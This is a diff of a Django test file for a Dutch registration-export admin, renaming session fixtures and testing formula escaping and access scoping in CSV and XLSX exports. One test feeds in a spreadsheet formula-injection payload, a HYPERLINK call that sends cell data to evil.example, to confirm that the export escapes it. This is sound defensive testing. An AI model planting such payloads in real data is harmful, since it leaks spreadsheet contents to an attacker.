@@ -54,15 +54,15 @@ def test_ordinary_values_are_left_alone(value):
     assert escape_formula(value) == value
 
 
-def test_resource_has_dutch_headers(sessie_a):
-    register(sessie_a, "Anna")
+def test_resource_has_dutch_headers(session_a):
+    register(session_a, "Anna")
     dataset = AanmeldingResource().export()
     assert dataset.headers[:5] == ["Regiosessie", "Datum sessie", "Naam", "E-mailadres", "Organisatie"]
     assert "Soort organisatie" in dataset.headers and "Aanwezig geweest" in dataset.headers
 
 
-def test_csv_export_escapes_a_formula_in_a_name(client, programmateam, sessie_a):
-    register(sessie_a, '=HYPERLINK("http://evil.example/?"&A1,"Klik")', organisation="@kwaad")
+def test_csv_export_escapes_a_formula_in_a_name(client, programmateam, session_a):
+    register(session_a, '=HYPERLINK("http://evil.example/?"&A1,"Klik")', organisation="@kwaad")
     client.force_login(programmateam)
     response = export(client, "csv")
     assert response.status_code == 200
@@ -74,8 +74,8 @@ def test_csv_export_escapes_a_formula_in_a_name(client, programmateam, sessie_a)
     assert row["Status"] == "bevestigd"
 
 
-def test_xlsx_export_stores_the_escaped_text_not_a_formula(client, programmateam, sessie_a):
-    register(sessie_a, "=1+1", organisation="Provincie")
+def test_xlsx_export_stores_the_escaped_text_not_a_formula(client, programmateam, session_a):
+    register(session_a, "=1+1", organisation="Provincie")
     client.force_login(programmateam)
     response = export(client, "xlsx")
     assert response.status_code == 200
@@ -86,24 +86,26 @@ def test_xlsx_export_stores_the_escaped_text_not_a_formula(client, programmateam
     assert name_cell.data_type == "s"
 
 
-def test_facilitator_export_contains_only_their_sessions(client, facilitator_a, sessie_a, sessie_b):
-    register(sessie_a, "Anna Noord")
-    register(sessie_b, "Bram Zuid")
+def test_facilitator_export_contains_only_their_sessions(client, facilitator_a, session_a, session_b):
+    register(session_a, "Anna Noord")
+    register(session_b, "Bram Zuid")
     client.force_login(facilitator_a)
     names = [row["Naam"] for row in rows_from_csv(export(client, "csv"))]
     assert names == ["Anna Noord"]
 
 
-def test_facilitator_cannot_export_another_session_by_filtering_on_it(client, facilitator_a, sessie_a, sessie_b):
-    register(sessie_b, "Bram Zuid")
+def test_facilitator_cannot_export_another_session_by_filtering_on_it(client, facilitator_a, session_a, session_b):
+    register(session_b, "Bram Zuid")
     client.force_login(facilitator_a)
-    rows = rows_from_csv(export(client, "csv", f"?session={sessie_b.pk}"))
+    rows = rows_from_csv(export(client, "csv", f"?session={session_b.pk}"))
     assert rows == []
 
 
-def test_facilitator_cannot_export_another_sessions_rows_through_the_action(client, facilitator_a, sessie_a, sessie_b):
-    mine = register(sessie_a, "Anna Noord")
-    theirs = register(sessie_b, "Bram Zuid")
+def test_facilitator_cannot_export_another_sessions_rows_through_the_action(
+    client, facilitator_a, session_a, session_b
+):
+    mine = register(session_a, "Anna Noord")
+    theirs = register(session_b, "Bram Zuid")
     client.force_login(facilitator_a)
     form = client.get(reverse(EXPORT_URL)).context["form"]
     csv_value = next(v for v, label in form.fields["format"].choices if label.lower() == "csv")
@@ -119,17 +121,17 @@ def test_facilitator_cannot_export_another_sessions_rows_through_the_action(clie
     assert [row["Naam"] for row in rows_from_csv(own)] == ["Anna Noord"]
 
 
-def test_programme_staff_export_one_session_through_its_filter(client, programmateam, sessie_a, sessie_b):
-    register(sessie_a, "Anna Noord")
-    register(sessie_b, "Bram Zuid")
+def test_programme_staff_export_one_session_through_its_filter(client, programmateam, session_a, session_b):
+    register(session_a, "Anna Noord")
+    register(session_b, "Bram Zuid")
     client.force_login(programmateam)
-    rows = rows_from_csv(export(client, "csv", f"?session={sessie_b.pk}"))
+    rows = rows_from_csv(export(client, "csv", f"?session={session_b.pk}"))
     assert [row["Naam"] for row in rows] == ["Bram Zuid"]
-    assert rows[0]["Regiosessie"] == str(sessie_b)
+    assert rows[0]["Regiosessie"] == str(session_b)
 
 
-def test_export_action_on_selected_registrations_offers_the_export_form(client, programmateam, sessie_a):
-    aanmelding = register(sessie_a, "Anna Noord")
+def test_export_action_on_selected_registrations_offers_the_export_form(client, programmateam, session_a):
+    aanmelding = register(session_a, "Anna Noord")
     client.force_login(programmateam)
     response = client.post(
         reverse("admin:regiosessies_aanmelding_changelist"),
@@ -139,8 +141,8 @@ def test_export_action_on_selected_registrations_offers_the_export_form(client, 
     assert "export_items" in response.context["form"].fields
 
 
-def test_anonymous_visitor_cannot_export(client, sessie_a):
-    register(sessie_a, "Anna Noord")
+def test_anonymous_visitor_cannot_export(client, session_a):
+    register(session_a, "Anna Noord")
     response = client.post(reverse(EXPORT_URL), {"format": 0})
     assert response.status_code == 302
     assert "Anna" not in response.content.decode()
